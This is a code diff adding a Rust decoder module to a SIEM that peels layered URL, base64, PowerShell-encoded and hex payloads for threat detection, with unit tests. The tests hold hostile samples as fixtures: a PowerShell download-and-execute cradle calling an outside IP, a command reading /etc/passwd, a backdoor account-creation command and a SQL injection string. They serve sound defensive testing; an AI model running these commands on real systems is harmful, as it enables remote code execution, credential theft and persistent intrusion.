@@ -0,0 +1,381 @@
+use std::collections::{HashMap, HashSet};
+use std::fmt;
+use std::sync::atomic::{AtomicU64, Ordering};
+use base64ct::{Base64Unpadded, Base64UrlUnpadded, Encoding as _};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+
+use crate::advanced_threat_detection::AdvancedThreatResult;
+use crate::error_handling::{SIEMError, SIEMResult};
+
+/// Longest decoded payload kept in detection details
+const MAX_DETAIL_CHARS: usize = 256;
+
+/// Recursive decoding of layered encodings in payload fields
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct DecoderSettings {
+    pub enabled: bool,
+    /// Event fields decoded; dotted paths reach nested objects
+    pub fields: Vec<String>,
+    /// Layers peeled at most from one value
+    pub max_depth: usize,
+    /// Decoded variants kept per event
+    pub max_variants: usize,
+    /// Shortest base64 or bare hex run worth decoding
+    pub min_encoded_length: usize,
+    /// Layers from which a match counts as deep encoding
+    pub deep_encoding_depth: usize,
+    /// Added to the confidence of detections matched on deeply encoded text
+    pub confidence_boost: f32,
+}
+
+impl Default for DecoderSettings {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            fields: vec!["message".to_string(), "command_line".to_string(), "url".to_string()],
+            max_depth: 4,
+            max_variants: 16,
+            min_encoded_length: 16,
+            deep_encoding_depth: 2,
+            confidence_boost: 0.15,
+        }
+    }
+}
+
+impl DecoderSettings {
+    pub fn validate(&self) -> SIEMResult<()> {
+        if !self.enabled {
+            return Ok(());
+        }
+        if self.max_depth == 0 || self.max_depth > 16 {
+            return Err(SIEMError::Validation("decoder.max_depth must be between 1 and 16".to_string()));
+        }
+        if self.min_encoded_length < 8 {
+            return Err(SIEMError::Validation("decoder.min_encoded_length must be at least 8".to_string()));
+        }
+        if !(0.0..=1.0).contains(&self.confidence_boost) {
+            return Err(SIEMError::Validation("decoder.confidence_boost must be between 0 and 1".to_string()));
+        }
+        Ok(())
+    }
+}
+
+/// One encoding layer
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Encoding {
+    Url,
+    Base64,
+    /// `powershell -EncodedCommand`: base64 of UTF-16LE
+    PowerShell,
+    Hex,
+}
+
+impl fmt::Display for Encoding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self {
+            Encoding::Url => "url",
+            Encoding::Base64 => "base64",
+            Encoding::PowerShell => "powershell",
+            Encoding::Hex => "hex",
+        })
+    }
+}
+
+/// Text recovered from a payload field and the layers peeled to reach it, outermost first
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct DecodedVariant {
+    pub field: String,
+    pub text: String,
+    pub encodings: Vec<Encoding>,
+}
+
+impl DecodedVariant {
+    pub fn depth(&self) -> usize {
+        self.encodings.len()
+    }
+
+    pub fn chain(&self) -> String {
+        self.encodings.iter().map(Encoding::to_string).collect::<Vec<_>>().join(">")
+    }
+}
+
+/// Decoded text is kept only when it reads as text rather than binary noise
+fn readable(bytes: Vec<u8>) -> Option<String> {
+    let text = String::from_utf8(bytes).ok()?;
+    let total = text.chars().count();
+    let printable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
+    (total >= 4 && !text.contains('\0') && printable * 10 >= total * 9).then_some(text)
+}
+
+fn hex_value(b: u8) -> Option<u8> {
+    (b as char).to_digit(16).map(|d| d as u8)
+}
+
+fn percent_decode(text: &str) -> Option<Vec<u8>> {
+    let bytes = text.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut decoded = false;
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] == b'%' && i + 2 < bytes.len() {
+            if let (Some(hi), Some(lo)) = (hex_value(bytes[i + 1]), hex_value(bytes[i + 2])) {
+                out.push(hi << 4 | lo);
+                decoded = true;
+                i += 3;
+                continue;
+            }
+        }
+        out.push(bytes[i]);
+        i += 1;
+    }
+    decoded.then_some(out)
+}
+
+fn base64_decode(token: &str) -> Option<Vec<u8>> {
+    let token = token.trim_end_matches('=');
+    Base64Unpadded::decode_vec(token).or_else(|_| Base64UrlUnpadded::decode_vec(token)).ok()
+}
+
+fn hex_decode(digits: &str) -> Option<Vec<u8>> {
+    let digits = digits.as_bytes();
+    if !digits.len().is_multiple_of(2) {
+        return None;
+    }
+    digits.chunks(2).map(|pair| Some(hex_value(pair[0])? << 4 | hex_value(pair[1])?)).collect()
+}
+
+fn utf16le(bytes: Vec<u8>) -> Option<Vec<u8>> {
+    if !bytes.len().is_multiple_of(2) {
+        return None;
+    }
+    let units: Vec<u16> = bytes.chunks(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
+    String::from_utf16(&units).ok().map(String::into_bytes)
+}
+
+/// Peels layered encodings off payload fields so signatures and IOC matching see the decoded text
+#[derive(Debug)]
+pub struct DecoderChain {
+    settings: DecoderSettings,
+    powershell: Regex,
+    base64: Regex,
+    hex: Regex,
+    decoded_events: AtomicU64,
+    variants: AtomicU64,
+    deep_events: AtomicU64,
+    depth_limited: AtomicU64,
+}
+
+impl DecoderChain {
+    pub fn new(settings: DecoderSettings) -> SIEMResult<Self> {
+        settings.validate()?;
+        let length = settings.min_encoded_length;
+        let compile = |pattern: String| Regex::new(&pattern).map_err(|e| SIEMError::Config(format!("decoder pattern: {}", e)));
+        Ok(Self {
+            powershell: compile(r"(?i)(?:^|\s)[-/]e(?:c|n[a-z]*)?\s+([A-Za-z0-9+/]{8,}={0,2})".to_string())?,
+            base64: compile(format!(r"[A-Za-z0-9+/_-]{{{},}}={{0,2}}", length))?,
+            hex: compile(format!(r"(?i)(?:\\x[0-9a-f]{{2}}){{4,}}|0x([0-9a-f]{{8,}})|\b([0-9a-f]{{{},}})\b", length))?,
+            settings,
+            decoded_events: AtomicU64::new(0),
+            variants: AtomicU64::new(0),
+            deep_events: AtomicU64::new(0),
+            depth_limited: AtomicU64::new(0),
+        })
+    }
+
+    /// Every layer directly decodable from `text`
+    fn peel(&self, text: &str) -> Vec<(Encoding, String)> {
+        let mut found = Vec::new();
+        if let Some(decoded) = percent_decode(text).and_then(readable) {
+            found.push((Encoding::Url, decoded));
+        }
+        let mut powershell_spans = Vec::new();
+        for captures in self.powershell.captures_iter(text) {
+            let encoded = captures.get(1).unwrap();
+            powershell_spans.push(encoded.range());
+            if let Some(decoded) = base64_decode(encoded.as_str()).and_then(utf16le).and_then(readable) {
+                found.push((Encoding::PowerShell, decoded));
+            }
+        }
+        for token in self.base64.find_iter(text) {
+            if powershell_spans.contains(&token.range()) {
+                continue;
+            }
+            if let Some(decoded) = base64_decode(token.as_str()).and_then(readable) {
+                found.push((Encoding::Base64, decoded));
+            }
+        }
+        for captures in self.hex.captures_iter(text) {
+            let whole = captures.get(0).unwrap().as_str();
+            let digits = match captures.get(1).or_else(|| captures.get(2)) {
+                Some(digits) => digits.as_str().to_string(),
+                None => whole.replace("\\x", "").replace("\\X", ""),
+            };
+            if let Some(decoded) = hex_decode(&digits).and_then(readable) {
+                found.push((Encoding::Hex, decoded));
+            }
+        }
+        found
+    }
+
+    /// Decode `text` layer by layer up to `max_depth`
+    pub fn decode(&self, field: &str, text: &str) -> (Vec<DecodedVariant>, bool) {
+        let mut variants: Vec<DecodedVariant> = Vec::new();
+        let mut seen: HashSet<String> = HashSet::from([text.to_string()]);
+        let mut frontier = vec![(text.to_string(), Vec::new())];
+        let mut depth_limited = false;
+        for depth in 1..=self.settings.max_depth + 1 {
+            let mut next = Vec::new();
+            for (current, encodings) in &frontier {
+                for (encoding, decoded) in self.peel(current) {
+                    if depth > self.settings.max_depth {
+                        depth_limited = true;
+                        break;
+                    }
+                    if variants.len() >= self.settings.max_variants || !seen.insert(decoded.clone()) {
+                        continue;
+                    }
+                    let mut chain: Vec<Encoding> = encodings.clone();
+                    chain.push(encoding);
+                    variants.push(DecodedVariant { field: field.to_string(), text: decoded.clone(), encodings: chain.clone() });
+                    next.push((decoded, chain));
+                }
+            }
+            if next.is_empty() {
+                break;
+            }
+            frontier = next;
+        }
+        (variants, depth_limited)
+    }
+
+    /// Decoded variants of the configured fields of `event`
+    pub fn decode_event(&self, event: &serde_json::Value) -> Vec<DecodedVariant> {
+        let mut variants = Vec::new();
+        let mut depth_limited = false;
+        for field in &self.settings.fields {
+            let pointer = format!("/{}", field.replace('.', "/"));
+            if let Some(text) = event.pointer(&pointer).and_then(|v| v.as_str()) {
+                let (decoded, limited) = self.decode(field, text);
+                variants.extend(decoded);
+                depth_limited |= limited;
+            }
+        }
+        variants.truncate(self.settings.max_variants);
+        if !variants.is_empty() {
+            self.decoded_events.fetch_add(1, Ordering::Relaxed);
+            self.variants.fetch_add(variants.len() as u64, Ordering::Relaxed);
+        }
+        if variants.iter().any(|v| v.depth() >= self.settings.deep_encoding_depth) {
+            self.deep_events.fetch_add(1, Ordering::Relaxed);
+        }
+        if depth_limited {
+            self.depth_limited.fetch_add(1, Ordering::Relaxed);
+        }
+        variants
+    }
+
+    /// Record on `threat` that it matched `variant`, raising its confidence when deeply encoded
+    pub fn annotate(&self, threat: &mut AdvancedThreatResult, variant: &DecodedVariant) {
+        threat.details.insert("decoded_field".to_string(), variant.field.clone());
+        threat.details.insert("decoded_encodings".to_string(), variant.chain());
+        threat.details.insert("decoded_depth".to_string(), variant.depth().to_string());
+        threat.details.insert("decoded_payload".to_string(), variant.text.chars().take(MAX_DETAIL_CHARS).collect());
+        if variant.depth() >= self.settings.deep_encoding_depth {
+            threat.details.insert("deep_encoding".to_string(), "true".to_string());
+            threat.confidence = (threat.confidence + self.settings.confidence_boost).min(1.0);
+        }
+    }
+
+    /// Variants as an event of string fields, for matchers that read whole events
+    pub fn as_event(variants: &[DecodedVariant]) -> serde_json::Value {
+        variants
+            .iter()
+            .enumerate()
+            .map(|(i, v)| (format!("decoded_{}_{}", v.field, i), serde_json::Value::String(v.text.clone())))
+            .collect::<serde_json::Map<_, _>>()
+            .into()
+    }
+
+    pub fn get_metrics(&self) -> HashMap<String, f64> {
+        HashMap::from([
+            ("decoder_events_decoded".to_string(), self.decoded_events.load(Ordering::Relaxed) as f64),
+            ("decoder_variants".to_string(), self.variants.load(Ordering::Relaxed) as f64),
+            ("decoder_deep_encoding_events".to_string(), self.deep_events.load(Ordering::Relaxed) as f64),
+            ("decoder_depth_limited_events".to_string(), self.depth_limited.load(Ordering::Relaxed) as f64),
+        ])
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn chain() -> DecoderChain {
+        DecoderChain::new(DecoderSettings::default()).unwrap()
+    }
+
+    fn utf16_base64(text: &str) -> String {
+        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        base64ct::Base64::encode_string(&bytes)
+    }
+
+    #[test]
+    fn test_peels_powershell_and_nested_layers() {
+        let decoder = chain();
+        let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
+        let command = format!("powershell.exe -NoP -enc {}", utf16_base64(script));
+        let (variants, limited) = decoder.decode("command_line", &command);
+        assert!(!limited);
+        assert_eq!(variants.len(), 1);
+        assert_eq!(variants[0].text, script);
+        assert_eq!(variants[0].encodings, vec![Encoding::PowerShell]);
+
+        // A %-encoded command in a base64 URL parameter: base64 > url
+        let inner = base64ct::Base64::encode_string(b"cat%20%2Fetc%2Fpasswd%3B%20id");
+        let (variants, _) = decoder.decode("url", &format!("/cgi-bin/run?c={}", inner));
+        let deepest = variants.iter().max_by_key(|v| v.depth()).unwrap();
+        assert_eq!(deepest.text, "cat /etc/passwd; id");
+        assert_eq!(deepest.chain(), "base64>url");
+
+        let (variants, _) = decoder.decode("message", r"payload \x77\x68\x6f\x61\x6d\x69 sent");
+        assert_eq!(variants[0].text, "whoami");
+        assert_eq!(variants[0].encodings, vec![Encoding::Hex]);
+    }
+
+    #[test]
+    fn test_ignores_plain_text_hashes_and_stops_at_max_depth() {
+        let decoder = chain();
+        let (variants, _) = decoder.decode("message", "User administrator logged in from workstation sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+        assert!(variants.is_empty());
+
+        let mut text = "net user backdoor P@ssw0rd /add".to_string();
+        for _ in 0..6 {
+            text = base64ct::Base64::encode_string(text.as_bytes());
+        }
+        let decoder = DecoderChain::new(DecoderSettings { max_depth: 3, ..Default::default() }).unwrap();
+        let variants = decoder.decode_event(&json!({ "message": text }));
+        assert_eq!(variants.iter().map(DecodedVariant::depth).max(), Some(3));
+        assert_eq!(decoder.get_metrics()["decoder_depth_limited_events"], 1.0);
+        assert!(DecoderSettings { max_depth: 0, ..Default::default() }.validate().is_err());
+    }
+
+    #[test]
+    fn test_annotates_deep_matches() {
+        let decoder = chain();
+        let variant = DecodedVariant {
+            field: "url".to_string(),
+            text: "' OR 1=1 --".to_string(),
+            encodings: vec![Encoding::Url, Encoding::Base64],
+        };
+        let mut threat = AdvancedThreatResult { confidence: 0.7, ..Default::default() };
+        decoder.annotate(&mut threat, &variant);
+        assert!((threat.confidence - 0.85).abs() < 1e-6);
+        assert_eq!(threat.details["decoded_encodings"], "url>base64");
+        assert_eq!(threat.details["deep_encoding"], "true");
+        assert_eq!(DecoderChain::as_event(&[variant])["decoded_url_0"], "' OR 1=1 --");
+    }
+}